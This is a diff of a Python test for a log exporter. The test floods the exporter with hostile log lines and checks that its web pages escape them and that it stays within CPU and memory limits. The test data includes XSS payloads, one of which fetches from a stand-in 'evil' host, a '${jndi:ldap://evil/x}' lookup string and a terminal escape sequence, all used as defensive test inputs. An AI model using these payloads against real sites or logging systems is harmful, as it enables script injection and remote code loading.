@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import asyncio
 import json
+import sys
 import time
 from collections.abc import Iterable
 from pathlib import Path
@@ -18,6 +19,7 @@ from kvpressure.sources.logs.learn import StartUp
 from kvpressure.sources.logs.live import Sink
 from kvpressure.sources.logs.quoted import quotes_request
 from tests.faults.test_ending import fetched, listens
+from tests.faults.test_gpu_child_attacked import resident_mib
 from tests.fuzz import logs as wordings
 from tests.support.ended import exporter
 from tests.support.engine_kit import GOOD_PAGE
@@ -115,7 +117,7 @@ async def test_a_flood_of_hostile_lines_leaves_the_exporter_as_it_was(tmp_path: 
     log.touch()
     lines = [
         b"ERROR <script>alert(1)</script> EngineDeadError <img src=x onerror=alert(1)>\n",
-        b'ERROR "></pre><script>fetch("//evil")</script> torch.OutOfMemoryError: CUDA out of memory\n',
+        b'ERROR "></td><script>fetch("//evil")</script> torch.OutOfMemoryError: CUDA out of memory\n',
         b"ERROR \x1b]52;c;ZXZpbA==\x07\x00\xff nccl error: ${jndi:ldap://evil/x}\n",
         b"ts=2026-01-01T00:00:00Z level=error event=forged EngineDeadError\n",
         *[b"x\n"] * 20,
@@ -139,20 +141,21 @@ async def test_a_flood_of_hostile_lines_leaves_the_exporter_as_it_was(tmp_path: 
                 for _ in range(50):  # in five seconds half a million lines, of which each block's last is a megabyte
                     file.write(block + b"z" * (MIB if _ % 10 == 0 else 10) + b"\n")
                     await asyncio.sleep(0.1)
-            assert len(engine.requests) - polls >= 4
-            assert run.cpu_seconds() - cpu < 4.0
-            address = f"http://127.0.0.1:{port}"
-            await run.until(lambda: "EngineDeadError" in fetched(f"{address}/api/v1/diagnosis"))
-            await run.until(lambda: "EngineDeadError" in fetched(f"{address}/?engine=engine") + fetched(f"{address}/"))
+            polls, cpu = len(engine.requests) - polls, run.cpu_seconds() - cpu
+            assert polls >= 4
+            assert cpu < 4.0
+            address, shown = f"http://127.0.0.1:{port}", "torch.OutOfMemoryError"
+            await run.until(lambda: shown in fetched(f"{address}/api/v1/diagnosis"))
+            await run.until(lambda: shown in fetched(f"{address}/"))
             for path in ("/", "/targets", "/?engine=engine"):
                 body = fetched(address + path)
-                assert "<script>alert" not in body
-                assert "<script>fetch" not in body
-                assert "<img src=x" not in body
-                assert "\x1b" not in body
-            assert "event=forged" not in "\n".join(
-                line for line in run.output().splitlines() if not line.startswith("ts=2026-11")
-            ).replace('"', "")
+                assert all(words not in body for words in ("<script>alert", "<script>fetch", "<img src=x", "\x1b"))
+            assert "&lt;script&gt;" in fetched(f"{address}/")
+            kind = 'kvpressure_log_events_total{container="engine",kind="engine_dead",namespace="",pod=""} 1.0'
+            assert kind in fetched(f"{address}/metrics")
+            assert not [line for line in run.output().splitlines() if "forged" in line]
+            assert resident_mib(run.pid) < 150
+            sys.stdout.write(f"{polls} polls, {cpu:.1f} s of CPU, {resident_mib(run.pid):.0f} MiB\n")
             end = await run.end()
     assert (end.code, end.left) == (0, [])
     assert "Traceback" not in run.output()
